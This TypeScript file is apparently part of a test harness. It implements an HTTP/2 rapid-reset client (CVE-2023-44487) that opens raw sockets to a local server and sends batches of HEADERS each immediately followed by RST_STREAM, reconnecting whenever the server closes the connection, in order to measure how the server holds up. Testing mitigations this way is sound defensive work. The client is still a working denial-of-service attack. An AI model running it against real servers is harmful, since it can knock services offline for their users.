import * as net from "node:net";
import { ACK, FRAME, clientStart, h2Frame, rapidResets } from "../../server/rapid-reset-frames.js";

/*
 * An HTTP/2 rapid-reset client (CVE-2023-44487), run as its own process so that its work does not
 * share an event loop with the callers whose latency is measured. It speaks raw frames, as the
 * attack tools do: on each connection the preface and SETTINGS, then HEADERS of a new stream (a
 * gRPC call's start) immediately followed by its RST_STREAM (CANCEL), in batches as fast as the
 * socket takes them, until the server closes the connection (GOAWAY, or refused unread); then it
 * reconnects at once. Every other connection waits for the server's SETTINGS before its first
 * stream, as a client that looks well-behaved at first does; the others send streams with the
 * preface, so that they arrive in the server's first read. A node:http2 client cannot do any of
 * this: a stream closed right after request() is dropped before its HEADERS frame ever leaves, so
 * the server sees nothing.
 *
 * Usage: rapid-reset-client.ts <port> <local address> <seconds> [connections in parallel, default 4]
 * Prints one JSON line: connections made, streams sent (HEADERS + RST_STREAM), GOAWAY codes seen,
 * and connections closed by the server before it sent a single byte (refused).
 */

const [port, localAddress, seconds] = [Number(process.argv[2]), process.argv[3]!, Number(process.argv[4])];
const parallel = Number(process.argv[5] ?? 4);
const until = Date.now() + seconds * 1000;
const authority = `127.0.0.1:${port}`;
const stats = { connections: 0, streams: 0, goaways: {} as Record<string, number>, refused: 0 };
/** Open connections, ended when the time is up even if the server stopped reading them. */
const open = new Set<net.Socket>();

/** Streams per write: one write of many frames, as an attacker batches them. */
const BATCH = 100;

/** One connection's life: attack until the server ends it, then resolve. */
function attackOnce(): Promise<void> {
  return new Promise((resolve) => {
    stats.connections++;
    const socket = net.connect({ port, host: "127.0.0.1", localAddress });
    open.add(socket);
    socket.setNoDelay(true);
    let nextStream = 1;
    let received: Buffer = Buffer.alloc(0);
    let heardFromServer = false;
    let closed = false;
    const waitForSettings = stats.connections % 2 === 0;
    let started = false;

    const writeBatch = () => {
      // Stream ids are 31 bits: a connection that lived that long would need a new one.
      while (!closed && Date.now() < until && nextStream < 0x7fffffff - 2 * BATCH) {
        const batch = rapidResets(nextStream, BATCH, authority);
        nextStream += 2 * BATCH;
        stats.streams += BATCH;
        // Back-pressure: go on when the kernel took the bytes, so the attack runs at the server's pace.
        if (!socket.write(batch)) return void socket.once("drain", writeBatch);
      }
      if (!closed) socket.destroy();
    };

    // Frames from the server: answer SETTINGS and PING as a client must, note GOAWAY codes.
    const onFrames = (chunk: Buffer) => {
      heardFromServer = true;
      received = received.length === 0 ? chunk : Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        const [type, flags] = [received.readUInt8(3), received.readUInt8(4)];
        const payload = received.subarray(9, 9 + length);
        received = received.subarray(9 + length);
        if (type === FRAME.SETTINGS && (flags & ACK) === 0) {
          socket.write(h2Frame(FRAME.SETTINGS, ACK, 0));
          if (!started) start();
        }
        if (type === FRAME.PING && (flags & ACK) === 0) socket.write(h2Frame(FRAME.PING, ACK, 0, payload));
        if (type === FRAME.GOAWAY && payload.length >= 8) {
          const code = payload.readUInt32BE(4);
          stats.goaways[code] = (stats.goaways[code] ?? 0) + 1;
        }
      }
    };

    socket.on("data", onFrames);
    socket.on("error", () => {});
    const start = () => {
      started = true;
      writeBatch();
    };
    socket.once("connect", () => {
      socket.write(clientStart());
      if (!waitForSettings) start();
    });
    socket.once("close", () => {
      open.delete(socket);
      closed = true;
      if (!heardFromServer) stats.refused++;
      resolve();
    });
  });
}

async function attacker(): Promise<void> {
  while (Date.now() < until) await attackOnce();
}

setTimeout(() => open.forEach((socket) => socket.destroy()), until - Date.now());
await Promise.all(Array.from({ length: parallel }, attacker));
process.stdout.write(`${JSON.stringify(stats)}\n`);
process.exit(0);
